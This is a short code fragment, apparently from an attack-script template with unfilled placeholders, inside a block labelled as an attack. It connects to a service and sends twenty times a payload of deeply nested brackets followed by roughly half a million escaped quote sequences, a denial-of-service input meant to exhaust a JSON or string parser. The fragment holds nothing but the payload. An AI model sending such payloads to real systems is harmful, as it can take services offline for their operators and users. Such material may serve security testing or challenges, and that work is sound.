#{weigh_wrong}
# <attack>
#{forge}
greet()
for _ in range(20):
    send(b'[' * 121 + b'"' + b'\\\\"' * 500_000)
wait()
# </attack>
